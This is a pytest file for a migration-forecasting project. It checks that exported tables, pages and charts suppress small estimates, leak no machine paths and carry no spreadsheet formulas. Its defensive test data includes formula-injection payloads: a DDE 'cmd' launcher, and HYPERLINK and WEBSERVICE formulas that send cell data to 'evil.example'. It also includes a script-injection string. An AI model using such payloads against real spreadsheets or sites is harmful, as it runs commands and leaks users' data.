"""Everything that leaves: no small cell of an estimate, no path or name of the machine, no formula.

One table of all writers. A writer that is added to the API is in it by itself.
"""

from __future__ import annotations

import csv
import getpass
import io
import json
import re
import socket
import sqlite3
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import polars as pl
import pytest

from corredor.present.context import drawn
from corredor.spreadsheets import without_formulas
from corredor.web.api.common import TableFormat
from corredor.web.api.tables import write
from corredor.web.exchange.table import SMALL, Column, Table
from corredor.web.exchange.tables import TABLES, table
from corredor.web.server import VIEWS

API = "/api/v1"
#: Columns and fields that hold estimates of people; published counts keep their small cells.
ESTIMATES = {
    *("q025", "q10", "q25", "q50", "q75", "q90", "q975", "median", "low", "high"),
    *("modelled", "people"),
}
GEO = ("nowcast", "flows", "places")
UNDER = 5  # what charts hold in place of all that is under ten


# ------------------------------------------------------------------------- readers
def _of_rows(rows: list[dict[str, Any]]) -> list[float]:
    found = (row.get(c) for row in rows for c in ESTIMATES)
    return [float(v) for v in found if v not in (None, "")]


def _csv(content: bytes) -> list[float]:
    return _of_rows(list(csv.DictReader(io.StringIO(content.decode()))))


def _xlsx(content: bytes) -> list[float]:
    sheet = openpyxl.load_workbook(io.BytesIO(content))["data"]
    head, *rows = sheet.iter_rows(values_only=True)
    return _of_rows([dict(zip(map(str, head), row, strict=True)) for row in rows])


def _gpkg(content: bytes) -> list[float]:
    with tempfile.NamedTemporaryFile(suffix=".gpkg") as file:
        file.write(content)
        file.flush()
        db = sqlite3.connect(file.name)
        db.row_factory = sqlite3.Row
        (name,) = db.execute("SELECT table_name FROM gpkg_contents").fetchone()
        rows = [dict(r) for r in db.execute(f'SELECT * FROM "{name}"')]
        db.close()
    return _of_rows(rows)


READERS = {
    "csv": _csv,
    "xlsx": _xlsx,
    "gpkg": _gpkg,
    "json": lambda b: _of_rows(json.loads(b)["rows"]),
    "geojson": lambda b: _of_rows([f["properties"] for f in json.loads(b)["features"]]),
    "parquet": lambda b: _of_rows(pl.read_parquet(io.BytesIO(b)).to_dicts()),
}


def _fields(found: Any) -> Iterator[float]:
    """Estimates in a JSON document, wherever they stand: data of charts too."""
    if isinstance(found, dict):
        for name, value in found.items():
            if name in ESTIMATES and isinstance(value, int | float):
                yield float(value)
            yield from _fields(value)
    elif isinstance(found, list):
        for value in found:
            yield from _fields(value)


def _embedded(page: bytes) -> list[float]:
    """Estimates in the data that a page carries for its charts."""
    blocks = re.findall(rb"<script[^>]*application/json[^>]*>(.*?)</script>", page, re.DOTALL)
    assert blocks
    return [v for b in blocks for v in _fields(json.loads(b))]


# ------------------------------------------------------------------------- writers
TABLES_OUT = [
    (name, fmt.value)
    for name in TABLES
    for fmt in TableFormat
    if name in GEO or fmt.value not in ("geojson", "gpkg")
]


def test_every_form_has_a_reader() -> None:
    assert set(READERS) == {f.value for f in TableFormat}


def test_cells_that_are_small_are_there_to_be_hidden(app: Any) -> None:
    """The made base has them in every table: a test of their absence can fail."""
    world = app.app.state.server.world
    for name, columns in (("forecast", ["q50"]), ("nowcast", ["median"]), ("flows", ["people"])):
        frame = world.table(name)
        assert (frame.select(columns).to_series() < SMALL).any()
    assert (world.table("fit")["modelled"] < SMALL).any()
    assert (world.table("sectors")["q10"] < SMALL).any()


@pytest.mark.parametrize(("name", "fmt"), TABLES_OUT)
def test_tables(app: Any, name: str, fmt: str, secrets: list[bytes]) -> None:
    made = table(app.app.state.server.world, name, "en")
    if fmt == "xlsx":
        made = replace(made, frame=made.frame.head(2000))  # a workbook is slow to make
    content = write(made, fmt, "en", False, 5000, 0)
    found = READERS[fmt](content)
    assert [v for v in found if v < SMALL] == []
    assert bool(found) == (name not in ("lags", "places", "series"))
    _tells_nothing(content, secrets)


CHARTED = {
    "now": {},
    "next": {},
    "map": {},
    "ports": {},
    "explore of one nationality": {"checkpoint": "darien", "nationality": "OOO"},
    "explore of one sector": {"sector": "us_big_bend"},
    "series": {"series": "panama.darien.total"},
}


@pytest.mark.parametrize("asked", CHARTED)
def test_views_and_the_data_of_their_charts(app: Any, asked: str, secrets: list[bytes]) -> None:
    server = app.app.state.server
    view = asked.split()[0]
    args = dict.fromkeys(("checkpoint", "nationality", "sector"), "") if view == "explore" else {}
    made = server.view(view, "en", **{**args, **CHARTED[asked]})
    plain = json.dumps([made.to_json(), [c.spec for c in made.charts.values()]], default=str)
    small = {v for v in _fields(json.loads(plain)) if 0 < v < SMALL}
    assert small <= {UNDER}
    _tells_nothing(plain.encode(), secrets)


def test_no_view_is_forgotten() -> None:
    """Those that show estimates are above; the others ask, or show what a job found."""
    assert {a.split()[0] for a in CHARTED} | {
        *("what-if", "port", "record", "table", "sources")
    } == set(VIEWS)


def test_drawn() -> None:
    assert [drawn(v) for v in (0, 0.4, 0.6, 3, 9.4, 9.6, 10, 1234.5)] == [
        0,
        0,
        5,
        5,
        5,
        10,
        10,
        1234,
    ]


def test_pictures_and_pages(client: Any, secrets: list[bytes]) -> None:
    for path in (
        "/en/now",
        "/es/next",
        "/en/map",
        "/en/api",
        "/static/vega.js",
        f"{API}/openapi.json",
        f"{API}/about",
        f"{API}/charts/now/map.svg",
        f"{API}/charts/next/fan-usbp.png",
        f"{API}/explore?checkpoint=darien&nationality=OOO",
    ):
        answer = client.get(path)
        assert answer.status_code == 200
        _tells_nothing(answer.content, secrets)


def test_the_brief(tmp_path: Path, secrets: list[bytes]) -> None:
    from corredor.brief.write import write_brief
    from tests.present.made import made_inputs

    inputs = made_inputs(date(2024, 12, 31))
    assert inputs.forecast_table is not None
    values = [c for c in inputs.forecast_table.columns if c in ESTIMATES]
    small = inputs.forecast_table.with_columns(pl.col(values) / 1000)
    write_brief(replace(inputs, forecast_table=small), tmp_path / "brief")
    pages = sorted((tmp_path / "brief").rglob("*.html"))
    assert pages
    for page in pages:
        content = page.read_bytes()
        assert {v for v in _embedded(content) if 0 < v < SMALL} <= {UNDER}
        _tells_nothing(content, secrets)


def test_hubverse(tmp_path: Path) -> None:
    from corredor.inference.exchange import hubverse, write_hubverse
    from tests.inference.test_exchange import make

    made = make(np.random.default_rng(1).poisson(6, (60, 3, 2)))
    write_hubverse(made, tmp_path / "h.csv")
    told = pl.read_csv(tmp_path / "h.csv")
    assert told.height == hubverse(made).height  # every task keeps its levels
    values = told["value"]
    assert (hubverse(made)["value"].is_between(1, 9)).any()
    assert values.filter((values > 0) & (values < SMALL)).unique().to_list() == [UNDER]
    tasks = ("target", "horizon", "location", "group")
    for _, task in told.group_by(tasks):
        assert task.sort("output_type_id")["value"].is_sorted()


def test_a_printed_forecast() -> None:
    from corredor.cli.model import _told

    frame = pl.DataFrame(
        {"month": [date(2026, 1, 1)] * 3, "q50": [3.0, 9.6, 200.0], "n": [1, 2, 3]}
    )
    assert _told(frame).to_dicts()[0]["q50"] is None
    assert _told(frame)["q50"].to_list() == [None, 9.6, 200.0]
    assert _told(frame)["n"].to_list() == [1, 2, 3]


# ---------------------------------------------------------------- of this machine
@pytest.fixture(scope="module")
def secrets(settings: Any) -> list[bytes]:
    """What must not be in an output: folders, user and name of this machine."""
    told = [str(settings.folder), str(settings.store), str(Path.home()), str(Path.cwd())]
    told += [sys.prefix, socket.gethostname(), f"/home/{getpass.getuser()}"]
    return [t.encode() for t in told if len(t) > 5]


def _tells_nothing(content: bytes, secrets: list[bytes]) -> None:
    assert [s for s in secrets if s in content] == []


# ------------------------------------------------------------------------ formulas
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "|calc",
    "%0A=1",
    "＝1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example?"&A1,"read me")',
    '=WEBSERVICE("http://evil.example")',
]
HARMLESS = ["-12", "-1,234.5", "-3%", "Ciudad Juárez", "2026-01-01", "a=b", "", "5 - 3"]


def _table(cells: list[str]) -> Table:
    frame = pl.DataFrame({"name": cells, "value": range(len(cells))})
    columns = tuple(Column(c, c, f"#{c}") for c in frame.columns)
    return Table("made", "=1+1", frame, columns, ("=2+2",), "=3+3")


def test_text_of_data_is_no_formula_in_csv() -> None:
    from corredor.web.exchange.writing import write_csv

    rows = list(csv.reader(io.StringIO(write_csv(_table(FORMULAS)).decode(), newline="")))
    assert [name for name, _ in rows[1:]] == ["'" + f for f in FORMULAS]
    rows = list(csv.reader(io.StringIO(write_csv(_table(HARMLESS)).decode(), newline="")))
    assert [name for name, _ in rows[1:]] == HARMLESS


def test_text_of_data_is_no_formula_in_excel() -> None:
    from corredor.web.exchange.writing import write_excel

    words = {w: w for w in ("readme", "data", "dictionary", "column", "meaning", "licence")}
    cells = [f.replace("\x00", "") for f in FORMULAS]
    book = openpyxl.load_workbook(io.BytesIO(write_excel(_table(cells), words)))
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.hyperlink]


def test_a_report_of_a_hostile_text_has_no_formula() -> None:
    """A text to check is somebody's: its sentences stand in the table of the report."""
    from corredor.statements import check

    text = "=cmd|' /C calc'!A0 the US Border Patrol recorded 249,785 encounters in December 2023."
    report = check(text, published="2024-02-01")
    assert report.statements
    rows = list(csv.reader(io.StringIO(report.to_csv(), newline="")))
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "@"))]
    page = report.html("en")
    hostile = check(
        text.replace("the US", "<script>alert(1)</script> the US"), published="2024-02-01"
    )
    assert "<script>alert" not in hostile.html("en")
    assert "<script>alert" not in page


def test_only_text_is_touched() -> None:
    frame = pl.DataFrame({"a": [-1.5], "b": [date(2026, 1, 1)], "c": [None], "d": ["-x"]})
    assert without_formulas(frame).row(0) == (-1.5, date(2026, 1, 1), None, "'-x")
